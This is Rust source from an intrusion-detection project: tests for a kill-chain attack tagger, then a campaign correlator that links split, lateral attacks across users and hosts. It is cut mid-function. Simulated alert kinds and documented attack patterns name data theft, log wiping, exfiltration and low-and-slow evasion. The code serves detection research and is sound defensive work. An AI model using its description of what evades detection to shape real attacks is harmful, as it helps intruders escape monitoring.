        let d = detection.expect("attack must be detected");
        assert!(
            d.ts < SimTime::from_secs(40),
            "must preempt the damage step"
        );
        assert!(d.score >= 0.8);
        assert!(d.stage.is_attack());
    }

    #[test]
    fn detection_latches_per_entity() {
        let mut tagger = AttackTagger::new(toy_training_model(), TaggerConfig::default());
        let mut count = 0;
        for t in 0..10u64 {
            let a = alert(t, AlertKind::KnownMalwareDownload, "eve");
            if tagger.observe(&a).is_some() {
                count += 1;
            }
        }
        assert_eq!(count, 1, "detection should fire once per entity");
    }

    #[test]
    fn entities_tracked_independently() {
        let mut tagger = AttackTagger::new(toy_training_model(), TaggerConfig::default());
        tagger.observe(&alert(0, AlertKind::DownloadSensitive, "eve"));
        tagger.observe(&alert(1, AlertKind::LoginSuccess, "alice"));
        assert_eq!(tagger.tracked_entities(), 2);
        let eve = tagger.posterior("user:eve").unwrap();
        let alice = tagger.posterior("user:alice").unwrap();
        let attack_mass = |p: &[f64]| p[Stage::Foothold.index()] + p[Stage::Escalation.index()];
        assert!(attack_mass(eve) > attack_mass(alice));
    }

    #[test]
    fn scan_matches_streaming() {
        let tagger = AttackTagger::new(toy_training_model(), TaggerConfig::default());
        let session: Vec<Alert> = [
            AlertKind::PortScan,
            AlertKind::DownloadSensitive,
            AlertKind::CompileKernelModule,
            AlertKind::LogWipe,
        ]
        .iter()
        .enumerate()
        .map(|(i, &k)| alert(i as u64, k, "eve"))
        .collect();
        let offline = tagger.scan(&session).expect("detected offline");
        let mut online = AttackTagger::new(toy_training_model(), TaggerConfig::default());
        let mut online_det = None;
        for a in &session {
            if let Some(d) = online.observe(a) {
                online_det = Some(d);
                break;
            }
        }
        assert_eq!(Some(offline), online_det);
    }

    /// With the temporal policy disabled the tagger is the order-only
    /// filter: shifting every timestamp by days changes nothing.
    #[test]
    fn disabled_policy_is_time_invariant() {
        let cfg = TaggerConfig {
            temporal: TemporalPolicy::disabled(),
            ..TaggerConfig::default()
        };
        let seq = [
            AlertKind::PortScan,
            AlertKind::DownloadSensitive,
            AlertKind::CompileKernelModule,
            AlertKind::LogWipe,
        ];
        let run = |stride: u64| {
            let mut tagger = AttackTagger::new(toy_training_model(), cfg.clone());
            for (i, &k) in seq.iter().enumerate() {
                tagger.observe(&alert(i as u64 * stride, k, "eve"));
            }
            tagger.posterior("user:eve").unwrap().to_vec()
        };
        assert_eq!(run(1), run(86_400 * 30), "order-only filter ignores time");
    }

    /// Evidence decay: the same suspicious pair separated by a long idle
    /// gap yields a colder posterior than back-to-back, and a decayed
    /// posterior approaches the prior as the gap grows.
    #[test]
    fn decay_relaxes_stale_evidence() {
        let cfg = TaggerConfig {
            temporal: TemporalPolicy {
                decay_half_life: Some(SimDuration::from_hours(6)),
                ..TemporalPolicy::disabled()
            },
            ..TaggerConfig::default()
        };
        let attack_mass = |gap_secs: u64| {
            let mut tagger = AttackTagger::new(toy_training_model(), cfg.clone());
            tagger.observe(&alert(0, AlertKind::DownloadSensitive, "eve"));
            tagger.observe(&alert(gap_secs, AlertKind::CompileKernelModule, "eve"));
            let p = tagger.posterior("user:eve").unwrap();
            p[Stage::Foothold.index()] + p[Stage::Escalation.index()]
        };
        let fresh = attack_mass(60);
        let stale = attack_mass(86_400 * 2);
        assert!(
            fresh > stale,
            "a two-day-stale foothold must be colder: {fresh} vs {stale}"
        );
        let very_stale = attack_mass(86_400 * 30);
        assert!(very_stale < stale, "decay is monotone in the gap");
    }

    /// Session timeout: beyond the idle limit the filter restarts from
    /// the prior — the posterior equals a fresh entity's, not a decayed
    /// continuation — while the detection latch survives.
    #[test]
    fn session_timeout_restarts_the_filter() {
        let cfg = TaggerConfig {
            temporal: TemporalPolicy {
                session_timeout: Some(SimDuration::from_hours(24)),
                ..TemporalPolicy::disabled()
            },
            ..TaggerConfig::default()
        };
        let mut tagger = AttackTagger::new(toy_training_model(), cfg.clone());
        tagger.observe(&alert(0, AlertKind::DownloadSensitive, "eve"));
        tagger.observe(&alert(10, AlertKind::CompileKernelModule, "eve"));
        // 3 days idle, then a benign-looking login.
        tagger.observe(&alert(86_400 * 3, AlertKind::LoginSuccess, "eve"));
        let mut fresh = AttackTagger::new(toy_training_model(), cfg);
        fresh.observe(&alert(0, AlertKind::LoginSuccess, "new"));
        assert_eq!(
            tagger.posterior("user:eve").unwrap(),
            fresh.posterior("user:new").unwrap(),
            "post-timeout the entity restarts from the prior"
        );
        assert_eq!(tagger.entity_steps("user:eve"), Some(1), "steps restart");

        // A latched detection survives the timeout.
        let mut latched = AttackTagger::new(
            toy_training_model(),
            TaggerConfig {
                temporal: TemporalPolicy {
                    session_timeout: Some(SimDuration::from_hours(1)),
                    ..TemporalPolicy::disabled()
                },
                ..TaggerConfig::default()
            },
        );
        let mut detections = 0;
        for t in [0, 10, 20] {
            if latched
                .observe(&alert(t, AlertKind::KnownMalwareDownload, "eve"))
                .is_some()
            {
                detections += 1;
            }
        }
        assert_eq!(detections, 1);
        assert!(latched.is_detected("user:eve"));
        latched.observe(&alert(86_400, AlertKind::KnownMalwareDownload, "eve"));
        assert!(
            latched.is_detected("user:eve"),
            "latch survives session timeout"
        );
    }

    /// Gap observations: with a gap model whose attack stages favour slow
    /// tempo, the same alert pair scores hotter at a slow gap than the
    /// order-only filter scores it (Insight 3: low-and-slow is evidence).
    #[test]
    fn gap_observations_make_slow_tempo_evidence() {
        use factorgraph::timing::GapModel;
        // 2 bins: < 1h, >= 1h. Benign/recon favour fast, attack slow.
        let mut emit = Vec::new();
        for s in 0..Stage::COUNT {
            if s >= Stage::Foothold.index() {
                emit.extend([0.3, 0.7]);
            } else {
                emit.extend([0.8, 0.2]);
            }
        }
        let model =
            toy_training_model().with_gap_model(GapModel::new(Stage::COUNT, vec![3_600.0], emit));
        let cfg_gaps = TaggerConfig {
            temporal: TemporalPolicy {
                gap_observations: true,
                ..TemporalPolicy::disabled()
            },
            ..TaggerConfig::default()
        };
        let cfg_plain = TaggerConfig {
            temporal: TemporalPolicy::disabled(),
            ..TaggerConfig::default()
        };
        let attack_mass = |model: &ChainModel, cfg: &TaggerConfig, gap: u64| {
            let mut tagger = AttackTagger::new(model.clone(), cfg.clone());
            tagger.observe(&alert(0, AlertKind::DownloadSensitive, "eve"));
            tagger.observe(&alert(gap, AlertKind::CompileKernelModule, "eve"));
            let p = tagger.posterior("user:eve").unwrap();
            p[Stage::Foothold.index()..].iter().sum::<f64>()
        };
        let slow = attack_mass(&model, &cfg_gaps, 8 * 3_600);
        let fast = attack_mass(&model, &cfg_gaps, 60);
        let order_only = attack_mass(&model, &cfg_plain, 8 * 3_600);
        assert!(
            slow > order_only,
            "slow tempo adds evidence: {slow} vs {order_only}"
        );
        assert!(slow > fast, "slow beats fast under this gap model");
    }

    /// Duplicate suppression: a re-delivered `(ts, kind)` is dropped
    /// before touching the filter, so the posterior equals the
    /// single-delivery posterior and the drop is counted.
    #[test]
    fn dedup_window_absorbs_redelivered_alerts() {
        let cfg = TaggerConfig {
            temporal: TemporalPolicy {
                dedup_window: Some(SimDuration::from_mins(5)),
                ..TemporalPolicy::disabled()
            },
            ..TaggerConfig::default()
        };
        let mut deduped = AttackTagger::new(toy_training_model(), cfg.clone());
        let mut clean = AttackTagger::new(toy_training_model(), cfg.clone());
        let seq = [
            (0, AlertKind::PortScan),
            (10, AlertKind::DownloadSensitive),
            (20, AlertKind::CompileKernelModule),
        ];
        for (t, k) in seq {
            clean.observe(&alert(t, k, "eve"));
            deduped.observe(&alert(t, k, "eve"));
            // At-least-once delivery: every alert arrives twice.
            deduped.observe(&alert(t, k, "eve"));
        }
        assert_eq!(
            deduped.posterior("user:eve").unwrap(),
            clean.posterior("user:eve").unwrap(),
            "duplicates must not double-count as evidence"
        );
        assert_eq!(deduped.entity_steps("user:eve"), Some(3));
        assert_eq!(deduped.duplicates_suppressed(), 3);
        assert_eq!(clean.duplicates_suppressed(), 0);

        // Distinct alerts at the same timestamp but different kinds are
        // NOT duplicates.
        let mut t2 = AttackTagger::new(toy_training_model(), cfg);
        t2.observe(&alert(0, AlertKind::PortScan, "bob"));
        t2.observe(&alert(0, AlertKind::DownloadSensitive, "bob"));
        assert_eq!(t2.entity_steps("user:bob"), Some(2));
        assert_eq!(t2.duplicates_suppressed(), 0);
    }

    /// Default policy: no dedup window, so duplicates still fold in (the
    /// historical behaviour is preserved byte for byte).
    #[test]
    fn dedup_is_off_by_default() {
        let mut tagger = AttackTagger::new(toy_training_model(), TaggerConfig::default());
        tagger.observe(&alert(0, AlertKind::PortScan, "eve"));
        tagger.observe(&alert(0, AlertKind::PortScan, "eve"));
        assert_eq!(tagger.entity_steps("user:eve"), Some(2));
        assert_eq!(tagger.duplicates_suppressed(), 0);
    }

    /// A known blackout window is a sensor outage, not attacker silence:
    /// the overlapped span is excluded from the session-timeout gap, so
    /// evidence spanning the outage survives where an undeclared gap of
    /// the same length would restart the filter.
    #[test]
    fn known_blackouts_relax_session_timeout() {
        let cfg = TaggerConfig {
            temporal: TemporalPolicy {
                session_timeout: Some(SimDuration::from_hours(24)),
                ..TemporalPolicy::disabled()
            },
            ..TaggerConfig::default()
        };
        let day = 86_400u64;
        let run = |blackouts: Vec<(SimTime, SimTime)>| {
            let mut tagger = AttackTagger::new(toy_training_model(), cfg.clone());
            tagger.set_blackouts(blackouts);
            tagger.observe(&alert(0, AlertKind::DownloadSensitive, "eve"));
            // Next alert three days later — 2.5 of which the collector
            // was provably dark.
            tagger.observe(&alert(3 * day, AlertKind::CompileKernelModule, "eve"));
            tagger.entity_steps("user:eve").unwrap()
        };
        assert_eq!(run(vec![]), 1, "undeclared 3-day gap restarts the session");
        let outage = vec![(SimTime::from_secs(day / 2), SimTime::from_secs(3 * day))];
        assert_eq!(
            run(outage),
            2,
            "gap net of the declared outage is under the timeout"
        );
    }

    /// Blackout windows are merged and overlap accounting is exact.
    #[test]
    fn blackout_windows_merge_and_overlap() {
        let mut tagger = AttackTagger::new(toy_training_model(), TaggerConfig::default());
        let s = SimTime::from_secs;
        tagger.set_blackouts(vec![
            (s(300), s(400)),
            (s(100), s(200)),
            (s(150), s(250)), // overlaps the second window
            (s(500), s(500)), // empty, dropped
        ]);
        assert_eq!(tagger.blackouts(), &[(s(100), s(250)), (s(300), s(400))]);
        assert_eq!(
            tagger.blackout_overlap(s(0), s(1_000)),
            SimDuration::from_secs(250)
        );
        assert_eq!(
            tagger.blackout_overlap(s(120), s(320)),
            SimDuration::from_secs(150)
        );
        assert_eq!(tagger.blackout_overlap(s(420), s(480)), SimDuration::ZERO);
    }

    #[test]
    fn reset_clears_state() {
        let mut tagger = AttackTagger::new(toy_training_model(), TaggerConfig::default());
        tagger.observe(&alert(0, AlertKind::PortScan, "x"));
        assert_eq!(tagger.tracked_entities(), 1);
        tagger.reset();
        assert_eq!(tagger.tracked_entities(), 0);
    }

    /// Bounded-state mode: an endless stream of one-shot entities cannot
    /// grow the state map unboundedly (mirror of the correlator's
    /// alert-storm bound test), and eviction changes no detection.
    #[test]
    fn entity_storm_cannot_grow_state_unboundedly() {
        let temporal = TemporalPolicy {
            session_timeout: Some(SimDuration::from_hours(1)),
            ..TemporalPolicy::disabled()
        };
        let bounded_cfg = TaggerConfig {
            temporal: temporal.clone(),
            max_entities: 64,
            ..TaggerConfig::default()
        };
        let unbounded_cfg = TaggerConfig {
            temporal,
            max_entities: 0,
            ..TaggerConfig::default()
        };
        let mut bounded = AttackTagger::new(toy_training_model(), bounded_cfg);
        let mut unbounded = AttackTagger::new(toy_training_model(), unbounded_cfg);
        let mut detections = (0u32, 0u32);
        // 10k distinct entities, one alert each, 2 minutes apart — every
        // entity is dead an hour after its alert. Interleave a slow
        // malicious session so detections are exercised too.
        for i in 0..10_000u64 {
            let t = i * 120;
            let a = alert(t, AlertKind::PortScan, &format!("drive-by-{i}"));
            detections.0 += u32::from(bounded.observe(&a).is_some());
            detections.1 += u32::from(unbounded.observe(&a).is_some());
            if i % 1_000 == 0 {
                let kinds = [
                    AlertKind::DownloadSensitive,
                    AlertKind::CompileKernelModule,
                    AlertKind::LogWipe,
                ];
                let m = alert(t + 1, kinds[(i / 1_000) as usize % 3], "eve");
                detections.0 += u32::from(bounded.observe(&m).is_some());
                detections.1 += u32::from(unbounded.observe(&m).is_some());
            }
        }
        assert!(
            bounded.tracked_entities() <= 64 + 64 / 8 + 32,
            "state must stay near the budget: {}",
            bounded.tracked_entities()
        );
        assert_eq!(unbounded.tracked_entities(), 10_001, "baseline grows");
        assert!(bounded.entities_evicted() > 9_000, "eviction was active");
        assert_eq!(
            detections.0, detections.1,
            "eviction must not change detections"
        );
    }

    /// A detected entity's latch survives eviction: when the attacker
    /// returns after the idle horizon, no second detection is raised —
    /// exactly as in the unbounded tagger.
    #[test]
    fn eviction_preserves_detection_latch() {
        let cfg = TaggerConfig {
            temporal: TemporalPolicy {
                session_timeout: Some(SimDuration::from_hours(1)),
                ..TemporalPolicy::disabled()
            },
            max_entities: 4,
            ..TaggerConfig::default()
        };
        let mut tagger = AttackTagger::new(toy_training_model(), cfg);
        // Detect eve.
        let mut detections = 0;
        for (t, k) in [
            (0, AlertKind::DownloadSensitive),
            (10, AlertKind::CompileKernelModule),
            (20, AlertKind::LogWipe),
        ] {
            detections += u32::from(tagger.observe(&alert(t, k, "eve")).is_some());
        }
        assert_eq!(detections, 1);
        // A day of unrelated one-shot entities forces eve out.
        for i in 0..64u64 {
            tagger.observe(&alert(
                86_400 + i * 3_600,
                AlertKind::PortScan,
                &format!("bg-{i}"),
            ));
        }
        assert!(
            tagger.posterior("user:eve").is_none(),
            "eve's filter state was evicted"
        );
        assert!(
            tagger.is_detected("user:eve"),
            "the latch survives in the side set"
        );
        assert!(tagger.detected_entities().any(|k| k == "user:eve"));
        // Eve returns with the same kill chain: latched, so no re-count.
        let t0 = 86_400 * 3;
        for (dt, k) in [
            (0, AlertKind::DownloadSensitive),
            (10, AlertKind::CompileKernelModule),
            (20, AlertKind::LogWipe),
        ] {
            assert!(
                tagger.observe(&alert(t0 + dt, k, "eve")).is_none(),
                "re-arrival must not re-detect"
            );
        }
        assert_eq!(tagger.evicted_latched_entities(), 0, "latch moved back");
        assert!(tagger.is_detected("user:eve"));
    }

    /// Without a session timeout nothing is provably dead: the bound is
    /// inert and the historical track-everything behaviour is preserved.
    #[test]
    fn bound_is_inert_without_session_timeout() {
        let cfg = TaggerConfig {
            temporal: TemporalPolicy::disabled(),
            max_entities: 8,
            ..TaggerConfig::default()
        };
        let mut tagger = AttackTagger::new(toy_training_model(), cfg);
        for i in 0..100u64 {
            tagger.observe(&alert(i * 3_600, AlertKind::PortScan, &format!("u{i}")));
        }
        assert_eq!(tagger.tracked_entities(), 100);
        assert_eq!(tagger.entities_evicted(), 0);
    }

    /// Snapshot round-trip: export → import into a fresh tagger → replay
    /// the tail yields exactly the uninterrupted posteriors, latches and
    /// counters.
    #[test]
    fn state_snapshot_round_trips() {
        let cfg = TaggerConfig {
            temporal: TemporalPolicy {
                dedup_window: Some(SimDuration::from_mins(5)),
                ..TemporalPolicy::default()
            },
            max_entities: 16,
            ..TaggerConfig::default()
        };
        let head = [
            (0, AlertKind::PortScan, "eve"),
            (10, AlertKind::DownloadSensitive, "eve"),
            (20, AlertKind::LoginSuccess, "alice"),
            (20, AlertKind::LoginSuccess, "alice"), // duplicate
        ];
        let tail = [
            (30, AlertKind::CompileKernelModule, "eve"),
            (40, AlertKind::LogWipe, "eve"),
            (50, AlertKind::LoginSuccess, "alice"),
        ];
        // Uninterrupted run.
        let mut whole = AttackTagger::new(toy_training_model(), cfg.clone());
        let mut whole_detections = Vec::new();
        for (t, k, u) in head.iter().chain(tail.iter()) {
            whole_detections.extend(whole.observe(&alert(*t, *k, u)));
        }
        // Interrupted run: head → snapshot → fresh tagger → tail. The
        // concatenation of both segments' detections must equal the
        // uninterrupted run's.
        let mut pre = AttackTagger::new(toy_training_model(), cfg.clone());
        let mut stitched_detections = Vec::new();
        for (t, k, u) in head {
            stitched_detections.extend(pre.observe(&alert(t, k, u)));
        }
        let snap = pre.export_state();
        assert_eq!(snap.entities.len(), 2);
        assert_eq!(snap.duplicates_suppressed, 1);
        let mut post = AttackTagger::new(toy_training_model(), cfg);
        post.import_state(&snap);
        for (t, k, u) in tail {
            stitched_detections.extend(post.observe(&alert(t, k, u)));
        }
        assert_eq!(whole_detections, stitched_detections, "detections drift");
        assert_eq!(
            whole.posterior("user:eve").unwrap(),
            post.posterior("user:eve").unwrap(),
            "posterior drift"
        );
        assert_eq!(whole.duplicates_suppressed(), post.duplicates_suppressed());
        // Export of the restored tagger equals export of the original.
        assert_eq!(whole.export_state(), post.export_state());
    }

    #[test]
    fn ground_truth_hooks_mirror_detections() {
        let mut tagger = AttackTagger::new(toy_training_model(), TaggerConfig::default());
        for (t, k) in [
            (0, AlertKind::DownloadSensitive),
            (10, AlertKind::CompileKernelModule),
            (20, AlertKind::LogWipe),
        ] {
            tagger.observe(&alert(t, k, "eve"));
        }
        tagger.observe(&alert(0, AlertKind::LoginSuccess, "alice"));
        assert!(tagger.is_detected("user:eve"));
        assert!(!tagger.is_detected("user:alice"));
        assert!(!tagger.is_detected("user:nobody"));
        let detected: Vec<String> = tagger.detected_entities().collect();
        assert_eq!(detected, vec!["user:eve".to_string()]);
        assert_eq!(tagger.entity_steps("user:eve"), Some(3));
        assert_eq!(tagger.entity_steps("user:alice"), Some(1));
        assert_eq!(tagger.entity_steps("user:nobody"), None);
    }
}
