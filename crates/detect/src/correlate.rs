//! Cross-entity campaign correlation.
//!
//! The per-entity tagger scores each user or address in isolation, so a
//! lateral-split session — recon on hop A, damage from hop B — presents
//! each hop with only a fragment of the kill chain. The residual misses at
//! every dilation in BENCH_5 are exactly these: hop B sees one alert
//! before damage and one alert is rarely enough to cross the decision
//! threshold on its own.
//!
//! [`CampaignCorrelator`] is the layer between per-entity inference and
//! response that stitches those fragments back together. It maintains a
//! bounded, allocation-free-in-steady-state graph of entity↔entity links
//! formed through compact join keys observed on the alert stream:
//!
//! - **shared victim** — two entities whose alerts target the same
//!   destination address;
//! - **shared source endpoint** — two entities whose alerts originate
//!   from the same address (a common C2 or staging host);
//! - **shared host** — two entities observed on the same monitored host;
//! - **shared exec palette** — two entities running the same interned
//!   cmdline / dropped binary / `COPY FROM PROGRAM` payload.
//!
//! A link only forms inside the policy's temporal adjacency window, and
//! only when the *anchoring* side has accumulated real attack mass —
//! benign traffic brushing a victim does not seed campaigns. Linked
//! entities are unioned into **campaigns**; each campaign tracks a decayed
//! support level (the strongest attack mass among its members, with the
//! same half-life semantics as [`TemporalPolicy`] evidence decay). When a
//! member's own posterior is suggestive but sub-threshold, the campaign
//! support is fused in:
//!
//! ```text
//! fused = 1 − (1 − own) · (1 − coupling · support)
//! ```
//!
//! i.e. evidence from hop A raises hop B's effective prior, so hop B's
//! *first* alert can cross the threshold pre-damage. A fused crossing is
//! *promoted* into an ordinary [`Detection`] (stage [`Stage::Lateral`],
//! score = fused posterior) and flows through the normal response path.
//!
//! Posterior fusion alone cannot recover every split: when the chain is
//! cut so that each hop holds only weak fragments (hop A peaks at 0.6,
//! hop B's pre-damage alert scores 0.1), no product of the two crosses
//! 0.8 even though the *concatenated* step sequence is exactly the
//! unsplit kill chain the tagger preempts reliably. The correlator
//! therefore also performs **sequence stitching**: each entity keeps a
//! bounded ring of its recent suggestive steps `(ts, kind)`, and when a
//! campaign member's fused posterior falls short, the members' rings are
//! merged in timestamp order and re-scored with the *same* chain model
//! the tagger runs (forward filter with gap observations and evidence
//! decay). If the stitched campaign sequence crosses the threshold the
//! member is promoted — the campaign as a whole walked the kill chain,
//! even though no single entity did.
//!
//! State is bounded on every axis (entities, join keys, per-campaign link
//! provenance) with idle-first eviction reusing [`TemporalPolicy`]
//! session-timeout semantics, so an adversarial many-entity alert storm
//! cannot grow memory without bound.

use serde::{Deserialize, Serialize};
use simnet::rng::{FxHashMap, FxHashSet};
use simnet::time::{SimDuration, SimTime};

use alertlib::alert::{Alert, EntityId};
use alertlib::message::MessageSpec;
use factorgraph::chain::ChainModel;
use factorgraph::timing::GAP_NONE;

use crate::attack_tagger::{AttackTagger, Detection, TaggerConfig, TaggerSnapshot, TemporalPolicy};
use crate::stage::Stage;

/// Opt-in cross-entity correlation policy (carried on
/// [`TaggerConfig::correlation`]).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CorrelationPolicy {
    /// Decayed attack mass an entity needs before it *anchors* links:
    /// cold entities never seed a campaign through a shared join key.
    pub anchor_min_score: f64,
    /// Attack mass an alert needs for its entity to *join* an anchored
    /// campaign through the high-specificity keys (shared victim, shared
    /// source endpoint) and to be eligible for promotion. Keeps benign
    /// traffic that merely shares a victim with an attack out of the
    /// campaign.
    pub join_min_score: f64,
    /// Attack mass required to link through the *low-specificity* keys
    /// (shared host, shared cmdline palette). These recur heavily across
    /// unrelated entities in a busy fleet — thousands of users share hosts
    /// and command palettes — so joining through them demands anchor-level
    /// evidence of the entity's own.
    pub weak_join_min_score: f64,
    /// Attack mass above which an alert is recorded into its entity's
    /// step ring (the entity's fragment of the campaign sequence), links
    /// through the high-specificity keys, and is eligible for
    /// sequence-stitched promotion. This is the "suggestive at all" floor
    /// — keep it at or below [`CorrelationPolicy::join_min_score`].
    pub sequence_min_score: f64,
    /// Attack mass above which an alert leaves a *trace* on the
    /// high-specificity join keys (victim / source rings) without
    /// anchoring anything — so a later suggestive entity touching the
    /// same key can link back to it. This is what recovers splits whose
    /// recon hop never scores: a VulnScan→SqlI fragment peaks well below
    /// any anchor floor, but its trace on the victim lets the exfil hop's
    /// first alert pull it into a campaign and re-score the stitched
    /// sequence. Keep it low; the trace itself grants nothing but
    /// linkability.
    pub trace_min_score: f64,
    /// Maximum time between two entities' alerts on the same join key for
    /// a link to form.
    pub adjacency_window: SimDuration,
    /// Strength of the cross-entity prior boost in the fused posterior.
    pub coupling: f64,
    /// Fused posterior mass required to promote a campaign-level
    /// detection (mirrors the tagger decision threshold).
    pub threshold: f64,
    /// Half-life of campaign support and per-entity peak mass — the
    /// [`TemporalPolicy::decay_half_life`] semantics applied to
    /// cross-entity evidence. `None` disables decay.
    pub decay_half_life: Option<SimDuration>,
    /// Idle gap after which an entity node is eligible for eviction — the
    /// [`TemporalPolicy::session_timeout`] semantics applied to the
    /// correlation graph. `None` keeps nodes until budget pressure.
    pub idle_timeout: Option<SimDuration>,
    /// Entity node budget; on pressure, idle-expired then oldest nodes
    /// are evicted in deterministic `(last_ts, id)` order.
    pub max_entities: usize,
    /// Join-key budget (victim / source / host / palette rings).
    pub max_join_keys: usize,
    /// Per-campaign link provenance budget (links beyond it still merge
    /// campaigns; only the provenance record is dropped).
    pub max_links_per_campaign: usize,
}

impl Default for CorrelationPolicy {
    fn default() -> Self {
        let temporal = TemporalPolicy::default();
        CorrelationPolicy {
            anchor_min_score: 0.5,
            join_min_score: 0.15,
            weak_join_min_score: 0.5,
            sequence_min_score: 0.05,
            trace_min_score: 0.005,
            adjacency_window: SimDuration::from_hours(48),
            coupling: 0.85,
            threshold: 0.8,
            decay_half_life: temporal.decay_half_life,
            idle_timeout: temporal.session_timeout,
            max_entities: 65_536,
            max_join_keys: 65_536,
            max_links_per_campaign: 64,
        }
    }
}

/// The kind of join key a link formed through.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
pub enum LinkKind {
    /// Shared destination (victim) address.
    Victim,
    /// Shared source / C2 endpoint address.
    Source,
    /// Shared monitored host.
    Host,
    /// Shared interned cmdline / payload symbol.
    Palette,
}

impl LinkKind {
    pub fn as_str(self) -> &'static str {
        match self {
            LinkKind::Victim => "victim",
            LinkKind::Source => "source",
            LinkKind::Host => "host",
            LinkKind::Palette => "palette",
        }
    }
}

/// One recorded entity↔entity link (provenance, endpoint ids normalized
/// so `a < b`).
#[derive(Debug, Clone, Copy, PartialEq)]
struct CampaignLink {
    ts: SimTime,
    a: EntityId,
    b: EntityId,
    kind: LinkKind,
}

/// A campaign link rendered for reports: canonical entity keys plus the
/// join-key kind that formed it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct LinkSummary {
    pub ts: SimTime,
    pub a: String,
    pub b: String,
    pub kind: LinkKind,
}

/// A campaign rendered for reports: stable id, sorted member entity keys,
/// link provenance, and detection counters.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CampaignSummary {
    /// Correlator-assigned campaign id (stable across executors — the
    /// correlator consumes the merged outcome stream in stream order).
    pub id: u32,
    /// Canonical member entity keys (`user:…` / `addr:…`), sorted.
    pub members: Vec<String>,
    /// Link provenance, bounded by
    /// [`CorrelationPolicy::max_links_per_campaign`].
    pub links: Vec<LinkSummary>,
    /// Detections promoted by campaign fusion.
    pub promotions: u32,
    /// Total detections among members (tagger-raised + promoted).
    pub detections: u32,
}

/// One entity node rendered for snapshots. Process-independent on
/// purpose: entities are canonical key strings, never raw ids — raw ids
/// embed interner-local sym ids that do not survive a restart.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CorrelatorEntitySnapshot {
    /// Canonical entity key (`user:…` / `addr:…`).
    pub entity: String,
    /// Campaign slot id, or `u32::MAX` when uncorrelated.
    pub campaign: u32,
    /// Decayed peak attack mass.
    pub mass: f64,
    /// Timestamp of the entity's last observed alert.
    pub last_ts: SimTime,
    /// Alerts observed (promotion `alert_index` base).
    pub seen: u32,
    /// Surfaced-detection latch.
    pub promoted: bool,
    /// The full step ring in slot order (`u16::MAX` kind = empty slot).
    pub steps: Vec<(SimTime, u16)>,
    /// Rotation head of the step ring.
    pub steps_head: u8,
}

/// One join-key recency ring rendered for snapshots. Address-flavoured
/// keys carry their raw 32-bit payload in `addr`; palette keys carry the
/// *resolved* string in `palette` and are re-interned on restore (sym
/// ids are process-local).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct JoinKeySnapshot {
    pub kind: LinkKind,
    /// Address / host-id payload (0 for palette keys).
    pub addr: u32,
    /// Resolved palette payload (`Some` iff `kind == Palette`).
    pub palette: Option<String>,
    /// Ring slots in slot order: `(entity key, ts)`.
    pub slots: Vec<Option<(String, SimTime)>>,
    /// Rotation head.
    pub head: u8,
}

/// One campaign rendered for snapshots.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CampaignSnapshot {
    pub id: u32,
    /// Member keys in *insertion order* — stitched replay folds a bounded
    /// member prefix, so order is behaviour-bearing (unlike the sorted
    /// members of [`CampaignSummary`]).
    pub members: Vec<String>,
    /// Link provenance (string-keyed endpoints).
    pub links: Vec<LinkSummary>,
    /// Support anchor: strongest member's key, or `None` when support is
    /// anonymous (post-merge runner-up mass) or empty.
    pub best_key: Option<String>,
    /// Decayed mass of the support anchor.
    pub best_mass: f64,
    /// Second-strongest decayed mass.
    pub second: f64,
    /// Timestamp the support masses were last decayed to.
    pub support_ts: SimTime,
    pub promotions: u32,
    pub detections: u32,
}

/// Full correlator state rendered for snapshots — everything
/// [`CampaignCorrelator::import_state`] needs to resume mid-stream with
/// byte-identical downstream detections. Policy, chain model, and
/// decision stages are configuration, not state, and are reconstructed
/// from config on restore.
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize)]
pub struct CorrelatorSnapshot {
    /// Entity nodes, sorted by key (canonical order; the graph itself is
    /// insertion-order independent).
    pub entities: Vec<CorrelatorEntitySnapshot>,
    /// Join-key rings, sorted by `(kind, addr, palette)`.
    pub keys: Vec<JoinKeySnapshot>,
    /// Campaigns, sorted by id.
    pub campaigns: Vec<CampaignSnapshot>,
    /// Evicted entities holding a surfaced-detection latch, sorted.
    pub promoted_latches: Vec<String>,
    pub next_campaign: u32,
    pub promotions: u64,
    pub tagger_confirmations: u64,
    pub entities_evicted: u64,
}

/// Sentinel: entity not yet part of any campaign.
const NO_CAMPAIGN: u32 = u32::MAX;

/// Sentinel raw id for anonymous campaign support (runner-up mass whose
/// attribution was lost in a merge). `u64::MAX` itself marks "no support
/// yet"; both sit far above any real `tag | payload` entity encoding.
const ANON_SUPPORT: u64 = u64::MAX - 1;

/// Slots per join-key recency ring.
const RING: usize = 8;

/// Slots per entity step-history ring (sequence stitching).
const SEQ_RING: usize = 12;

/// Sentinel kind index marking an empty step slot (no alert kind reaches
/// `u16::MAX`).
const STEP_EMPTY: u16 = u16::MAX;

/// Campaign members folded into one stitched replay — a deterministic
/// insertion-order prefix that bounds replay cost on merged
/// mega-campaigns.
const SEQ_MEMBERS: usize = 32;

/// Join-key tag bits (payload is a 32-bit address/host/symbol id).
const JK_VICTIM: u64 = 1 << 32;
const JK_SOURCE: u64 = 2 << 32;
const JK_HOST: u64 = 3 << 32;
const JK_PALETTE: u64 = 4 << 32;

/// Per-entity node in the correlation graph. `Copy` on purpose: inserting
/// a node never allocates beyond amortized map growth.
#[derive(Debug, Clone, Copy)]
struct EntityNode {
    /// Campaign slot, or [`NO_CAMPAIGN`].
    campaign: u32,
    /// Decayed peak attack mass (half-life = policy decay).
    mass: f64,
    /// Timestamp of the entity's last observed alert.
    last_ts: SimTime,
    /// Alerts observed for this entity (promotion `alert_index`).
    seen: u32,
    /// Whether this entity has already surfaced a detection — its own or
    /// a promoted one. Latched; suppresses double notification.
    promoted: bool,
    /// Recent suggestive steps `(ts, kind index)` — the entity's fragment
    /// of the campaign sequence, merged across members for stitched
    /// replay. [`STEP_EMPTY`] kind marks an unused slot.
    steps: [(SimTime, u16); SEQ_RING],
    steps_head: u8,
}

/// Bounded recency ring of anchoring entities for one join key.
#[derive(Debug, Clone, Copy, Default)]
struct KeyRing {
    slots: [Option<(EntityId, SimTime)>; RING],
    head: u8,
}

impl KeyRing {
    fn newest_ts(&self) -> SimTime {
        self.slots
            .iter()
